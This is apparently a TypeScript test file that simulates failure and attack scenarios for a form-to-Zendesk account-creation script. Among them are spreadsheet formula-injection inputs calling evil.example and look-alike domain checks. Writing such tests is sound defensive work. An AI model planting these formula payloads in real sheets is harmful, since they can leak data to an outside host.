import type { BuiltScript } from '../../fixture/built-script';
import { ALWAYS, AT_THE_END, breachesOf, UNDISTURBED } from '../invariants/index';
import { everyInterruption } from '../single/all-disturbances';
import { atCall, disarm } from '../single/disturbance';
import { REQUEST_KINDS } from '../single/request-kinds';
import { Trial } from '../single/trial';
import { Tally } from '../tally';
import { COLUMNS, SimWorld, type WorldOptions } from '../world/sim-world';
import { passTime } from '../world/time';

/** A small simulation of one safeguard. Yields one sentence for each breach as soon as it is found. */
export type Simulation = (bundle: BuiltScript) => Iterable<string>;

/** An execution that creates an account is killed at each call in turn. */
export const createInterrupted: Simulation = function* (bundle) {
  const [create] = REQUEST_KINDS;
  if (!create) return;
  for (const { sentence } of everyInterruption(new Trial(create, new Tally(), { bundle }))) yield sentence;
};

/** While a request is handled, the timer starts another execution, at each call in turn. */
export const timerDuringRequest: Simulation = (bundle) =>
  atEveryCall({ bundle }, (world, call) =>
    atCall(world, call, () => world.google.run('processPending', [{}])),
  );

/** While a request is handled, an admin sorts the sheet, at each call in turn. */
export const sortDuringRequest: Simulation = (bundle) =>
  atEveryCall({ bundle }, (world, call) =>
    atCall(world, call, () => world.manually(() => world.google.form.sheet.sort(COLUMNS.email, true))),
  );

/** While a request is handled, an admin inserts a row and the execution is killed, at each call in turn. */
export const rowInsertedAndKilled: Simulation = (bundle) =>
  atEveryCall({ bundle }, (world, call) => {
    atCall(world, call, () => world.manually(() => world.google.form.sheet.insertRow(2)));
    // Google applies the queued writes before the next read.
    world.google.faults.killAt(call + 1, { after: true });
  });

/** The first mail cannot be sent; then the outcome changes. */
export const outcomeChanged: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    useUpMailQuota(world);
    world.submit();
    world.observed.manuallyChangedAccounts.push('ana@acme.example');
    const ana = world.zendesk.state.presentAgents().find(({ email }) => email === 'ana@acme.example');
    Object.assign(ana ?? {}, { enabled: false });
    world.google.clickMenu('Retry selected rows', { selection: 'A2' });
  });

/** The first mail cannot be sent; then the requester edits the answer. */
export const answerEditedBeforeMail: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    useUpMailQuota(world);
    world.submit();
    world.google.clock.advance(1000);
    world.edit(2, { email: 'anna@acme.example' });
  });

function useUpMailQuota({ google }: SimWorld): void {
  google.quota.mail(google.owner).left = 0;
}

/** The requester edits an answer after it was rejected. */
export const answerEditedAfterRejection: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    world.submit({ email: 'ana@elsewhere.example' });
    world.google.clock.advance(1000);
    world.edit(2, { email: 'ana@acme.example' });
  });

/** Answers that would become formulas if they were typed. */
export const formulasSubmitted: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    world.submit({
      email: '=IMPORTDATA("https://evil.example")',
      firstName: '=HYPERLINK("https://evil.example")',
    });
  });

/** Domains that look like an allowed one. */
export const lookAlikeDomains: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    for (const domain of ['acme.example.evil.example', 'evilacme.example']) {
      world.submit({ email: `ana@${domain}` });
    }
  });

/** Zendesk is case-sensitive and has the address in different case. */
export const differentCase: Simulation = (bundle) => {
  const choices = { emailLookupIgnoresCase: false, duplicateIgnoresCase: false };
  return runScenario({ bundle, choices }, (world) => {
    world.zendesk.addAgent({ email: 'Ana@acme.example' });
    world.google.clickMenu('Export agents to sheet');
    world.submit();
  });
};

/** Zendesk answers with Retry-After; then another person submits the form. */
export const throttled: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    world.zendesk.modes.forced429 = 1;
    world.submit();
    world.submit({ email: 'ben@acme.example' });
  });

/** The answer to a create is lost. */
export const answerLost: Simulation = (bundle) =>
  runScenario({ bundle }, (world) => {
    world.zendesk.modes.dropAfterCommit = { times: 1, method: 'POST' };
    world.submit();
  });

/** Runs a scenario and the two days after it; gives the breaches. */
export function runScenario(
  options: WorldOptions,
  scenario: (world: SimWorld) => string[] | undefined,
): string[] {
  const world = SimWorld.turnedOn(options);
  const breaches = scenario(world) ?? [];
  return [...breaches, ...breachesInTheEnd(world)];
}

export function breachesInTheEnd(world: SimWorld): string[] {
  passTime(world, { days: 2 });
  return breachesOf([...ALWAYS, ...AT_THE_END, ...UNDISTURBED], world).map(({ sentence }) => sentence);
}

/** The sheet already has two rows, which must not be damaged. */
export function* atEveryCall(
  options: WorldOptions,
  arm: (world: SimWorld, call: number) => void,
): Generator<string> {
  const start = SimWorld.turnedOn(options);
  for (const name of ['zoe', 'ben']) start.submit({ email: `${name}@acme.example`, firstName: name });
  start.google.clock.advance(1000);
  const saved = start.save();
  const undisturbed = SimWorld.from(saved, options);
  undisturbed.submit();
  for (let call = 1; call <= undisturbed.lastExecution.callCount; call++) {
    const world = SimWorld.from(saved, options);
    arm(world, call);
    world.submit();
    disarm(world);
    yield* breachesInTheEnd(world);
  }
}
